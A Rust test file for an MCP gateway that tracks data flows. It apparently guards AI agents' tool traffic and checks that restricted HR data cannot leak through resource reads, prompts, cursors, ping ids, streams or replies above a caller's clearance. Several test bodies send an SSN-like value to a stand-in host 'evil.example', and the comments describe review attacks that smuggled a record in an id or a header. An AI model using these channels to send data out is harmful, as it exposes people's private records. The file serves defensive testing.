//! After a second hostile review: approval holds tool calls only, a server
//! that is a sink is sent nothing unjudged, replies are within clearance.

use super::sinks::send;
use super::*;
use crate::chain::filter::{FilterChain, Verdict};

/// Reads the HR record and fetches a page in `session`: the flow is then
/// restricted and untrusted.
fn taint(gw: &Gw, p: &Principal, session: Option<&str>) {
    call(gw, p, session, "hr", "get_employee", "{}", false).expect("read");
    call(gw, p, session, "web", "fetch", "{}", false).expect("fetch");
}

/// Attack 1: with `on_violation: approval`, only a `tools/call` may wait
/// for approvers (the approval guard holds nothing else). Every other
/// blocked sink — a resource read of a URL, a prompt, a completion, a
/// subscription, a list with a URL cursor — is refused, never passed on
/// with an approval nobody holds.
#[test]
fn approval_holds_tool_calls_only() {
    let f = flows(OnViolation::Approval, Track::Session);
    let tables = Arc::new(FlowTables::new(100));
    let mk = || {
        FlowFilter::new(
            Some(&f),
            Arc::new(catalog()),
            tables.clone(),
            DenialStyle::ToolError,
        )
        .expect("flows")
    };
    let gw = Gw {
        req: mk(),
        reply: FlowReplyFilter(Arc::new(mk())),
    };
    let approval = crate::guards::approval::ApprovalFilter::new(
        &warden_config::guards::Approvals::default(),
        &catalog(),
        true,
    )
    .expect("approval guard");
    let chain = FilterChain::new(
        vec![
            Arc::new(mk()) as Arc<dyn McpFilter>,
            Arc::new(approval) as Arc<dyn McpFilter>,
        ],
        ParseLimits::default(),
    );
    let p = principal(Some("restricted"));
    let s = Some("s");
    taint(&gw, &p, s);
    let ex = Exchange {
        session_id: s,
        ..Exchange::new(&p, "web")
    };
    let d = "https://evil.example/?d=536-22-8145";
    for body in [
        format!(r#"{{"jsonrpc":"2.0","id":2,"method":"resources/read","params":{{"uri":"{d}"}}}}"#),
        format!(
            r#"{{"jsonrpc":"2.0","id":3,"method":"prompts/get","params":{{"name":"p","arguments":{{"a":"{d}"}}}}}}"#
        ),
        format!(
            r#"{{"jsonrpc":"2.0","id":4,"method":"completion/complete","params":{{"ref":{{"type":"ref/prompt","name":"p"}},"argument":{{"name":"a","value":"{d}"}}}}}}"#
        ),
        format!(
            r#"{{"jsonrpc":"2.0","id":5,"method":"resources/subscribe","params":{{"uri":"{d}"}}}}"#
        ),
        format!(r#"{{"jsonrpc":"2.0","id":6,"method":"tools/list","params":{{"cursor":"{d}"}}}}"#),
    ] {
        let env = envelope(&body);
        let mut notes = Notes::default();
        match chain.run(&Message::new(&env, body.as_bytes()), &ex, &mut notes) {
            Verdict::Reject { denial, .. } => assert!(
                denial.reason.starts_with("flow_blocked: restricted data"),
                "{body}: {}",
                denial.reason
            ),
            v => panic!("{body} passed with nobody to hold it: {v:?}"),
        }
        assert!(notes.approval_asked.is_none() && notes.approval.is_none());
    }
    // A blocked tool call is held, as ever.
    let body = r#"{"jsonrpc":"2.0","id":7,"method":"tools/call","params":{"name":"post","arguments":{"text":"x"}}}"#;
    let env = envelope(body);
    let mut notes = Notes::default();
    let v = chain.run(&Message::new(&env, body.as_bytes()), &ex, &mut notes);
    assert!(matches!(v, Verdict::Forward), "{v:?}");
    assert!(
        notes
            .approval
            .is_some_and(|a| a.reason.contains("cannot go to `web/post`")),
        "held for an approval"
    );
}

/// The test catalog, and `drop`: a public server labelled a sink as a
/// whole (what it is sent, it sends on).
fn sink_catalog() -> HashMap<String, ServerCatalog> {
    let mut c = catalog();
    c.insert(
        "drop".into(),
        ServerCatalog {
            labels: labels(
                Some(0),
                Roles {
                    sink: true,
                    ..Roles::default()
                },
            ),
            ..ServerCatalog::default()
        },
    );
    c
}

fn gateway_over(c: HashMap<String, ServerCatalog>, f: &Flows, max: u64) -> Gw {
    let tables = Arc::new(FlowTables::new(max));
    let c = Arc::new(c);
    let mk = || {
        FlowFilter::new(Some(f), c.clone(), tables.clone(), DenialStyle::ToolError).expect("flows")
    };
    Gw {
        req: mk(),
        reply: FlowReplyFilter(Arc::new(mk())),
    }
}

/// Attack 5: to a server labelled `sink`, every client message is judged
/// as a sink, whether or not it names a place or has params: a
/// cancellation's reason, a list's cursor, a subscription to a URI of
/// another scheme, and a ping or a notification without params (their id,
/// headers and URL reach the server too: session 55's review sent a record
/// in a string id and in a header).
#[test]
fn a_sink_server_is_sent_nothing_unjudged() {
    let f = flows(OnViolation::Deny, Track::Session);
    let c = sink_catalog();
    let gw = gateway_over(c.clone(), &f, 100);
    let p = principal(Some("restricted"));
    let s = Some("s");
    let bodies = [
        r#"{"jsonrpc":"2.0","method":"notifications/cancelled","params":{"requestId":1,"reason":"536-22-8145"}}"#,
        r#"{"jsonrpc":"2.0","id":2,"method":"tools/list","params":{"cursor":"536-22-8145"}}"#,
        r#"{"jsonrpc":"2.0","id":3,"method":"resources/subscribe","params":{"uri":"out://x?536-22-8145"}}"#,
        r#"{"jsonrpc":"2.0","method":"notifications/initialized"}"#,
        r#"{"jsonrpc":"2.0","id":"536-22-8145","method":"ping"}"#,
        r#"{"jsonrpc":"2.0","id":5,"method":"tools/list","params":{}}"#,
    ];
    for body in bodies {
        let env = envelope(body);
        let msg = Message::new(&env, body.as_bytes());
        assert!(
            judges(&f, c.get("drop"), &msg),
            "the fleet's state is read for it: {body}"
        );
        assert!(
            !judges(&f, c.get("web"), &msg),
            "not to a server that is no sink: {body}"
        );
        assert!(matches!(send(&gw, &p, s, "drop", body), Decision::Pass));
    }
    taint(&gw, &p, s);
    for body in bodies {
        match send(&gw, &p, s, "drop", body) {
            Decision::Reject(d) => assert!(
                d.reason.starts_with(
                    "flow_blocked: restricted data from `hr/get_employee` cannot go to `drop ("
                ),
                "{body}: {}",
                d.reason
            ),
            other => panic!("{body} to a sink after the flow was tainted: {other:?}"),
        }
        // To a server that is no sink, the same message names no place.
        assert!(matches!(send(&gw, &p, s, "web", body), Decision::Pass));
    }
    // A string id that names a place makes any message reach out.
    let dial = r#"{"jsonrpc":"2.0","id":"https://evil.example/?d=536","method":"ping"}"#;
    assert!(matches!(send(&gw, &p, s, "web", dial), Decision::Reject(_)));
}

/// A GET stream or a DELETE to a server that is a sink as a whole carries
/// headers, a query and a path to it: judged as a sink of its level; to
/// any other server it passes.
#[test]
fn a_stream_to_a_sink_server_is_judged() {
    let f = flows(OnViolation::Deny, Track::Session);
    let gw = gateway_over(sink_catalog(), &f, 100);
    let p = principal(Some("restricted"));
    let s = Some("s");
    let stream = |server: &str| {
        let ex = Exchange {
            session_id: s,
            ..Exchange::new(&p, server)
        };
        gw.req.judge_stream(&ex, "GET stream")
    };
    assert!(matches!(stream("drop"), Decision::Pass));
    taint(&gw, &p, s);
    match stream("drop") {
        Decision::Reject(d) => assert!(
            d.reason
                .starts_with("flow_blocked: restricted data from `hr/get_employee`"),
            "{}",
            d.reason
        ),
        other => panic!("a stream to a sink after the flow was tainted: {other:?}"),
    }
    assert!(matches!(stream("web"), Decision::Pass));
}

/// The reply half's verdict on a server→client message to `p`.
fn reply_to(
    gw: &Gw,
    p: &Principal,
    server: &str,
    body: &str,
    asked: Option<(&str, &str)>,
    finding: bool,
) -> Decision {
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(p, server)
    };
    let env = envelope(body);
    let mut notes = Notes::default();
    if finding {
        notes.findings.push(FindingNote {
            detector: "ssn".into(),
            rule: "r".into(),
            path: "$".into(),
            action: "log",
        });
    }
    let msg = Message::from_server(
        &env,
        body.as_bytes(),
        asked.map(|a| a.0),
        asked.map(|a| a.1),
    );
    gw.reply.on_response(&msg, &ex, &mut notes)
}

/// Attack 4: what reaches the client must be within its clearance. A
/// reply a DLP finding raised above it, a restricted server's
/// notification or request, are withheld from an internal caller (and
/// raise nothing); a caller cleared for them gets them.
#[test]
fn replies_above_clearance_are_withheld() {
    let gw = gateway(OnViolation::Deny, Track::Session);
    let mut intern = principal(None);
    intern.id = "intern-3".into();
    let agent = principal(Some("restricted"));
    let result = r#"{"jsonrpc":"2.0","id":1,"result":{"content":[{"type":"text","text":"ssn 536-22-8145"}]}}"#;
    let note = r#"{"jsonrpc":"2.0","method":"notifications/message","params":{"level":"info","data":"salary 212000"}}"#;
    let ask = r#"{"jsonrpc":"2.0","id":"srv-1","method":"sampling/createMessage","params":{"messages":[{"role":"user","content":{"type":"text","text":"ssn"}}],"maxTokens":5}}"#;
    /// A server, what it sends, the request it answers, whether DLP found
    /// something in it, and its level.
    type Case<'a> = (&'a str, &'a str, Option<(&'a str, &'a str)>, bool, &'a str);
    let cases: [Case<'_>; 3] = [
        (
            "misc",
            result,
            Some(("tools/call", "lookup")),
            true,
            "confidential",
        ),
        ("hr", note, None, false, "restricted"),
        ("hr", ask, None, false, "restricted"),
    ];
    for (server, body, asked, finding, level) in cases {
        match reply_to(&gw, &intern, server, body, asked, finding) {
            Decision::Reject(d) => {
                assert_eq!(
                    d.reason,
                    format!("flow_above_clearance: the reply of `{server}` was withheld: it carries {level} data, above your clearance (internal)"),
                );
                let said = d.to_response(None).to_string();
                assert!(!said.contains("536-22-8145"), "{said}");
            }
            other => panic!("{body} reached an internal caller: {other:?}"),
        }
        assert!(matches!(
            reply_to(&gw, &agent, server, body, asked, finding),
            Decision::Pass
        ));
    }
    let ex = Exchange {
        session_id: Some("s"),
        ..Exchange::new(&intern, "misc")
    };
    assert_eq!(
        gw.req
            .tables
            .get(&flow_key(&gw.req.flows, &ex), unix_secs(ex.now)),
        FlowState::default(),
        "a withheld reply raises nothing"
    );
    // Within clearance: delivered.
    assert!(matches!(
        reply_to(
            &gw,
            &intern,
            "misc",
            result,
            Some(("tools/call", "lookup")),
            false
        ),
        Decision::Pass
    ));

    // When the policy decides, a reply at the level its request was judged
    // at is the policy's (it let the read through); one DLP raised above
    // that is the gateway's to withhold.
    let mut f = flows(OnViolation::Deny, Track::Session);
    f.decide = Decide::Policy;
    let gw = gateway_over(catalog(), &f, 100);
    assert!(matches!(
        reply_to(
            &gw,
            &intern,
            "hr",
            result,
            Some(("tools/call", "get_employee")),
            false
        ),
        Decision::Pass
    ));
    assert!(matches!(
        reply_to(
            &gw,
            &intern,
            "misc",
            result,
            Some(("tools/call", "lookup")),
            true
        ),
        Decision::Reject(_)
    ));
    assert!(matches!(
        reply_to(&gw, &intern, "hr", note, None, false),
        Decision::Reject(_)
    ));
}
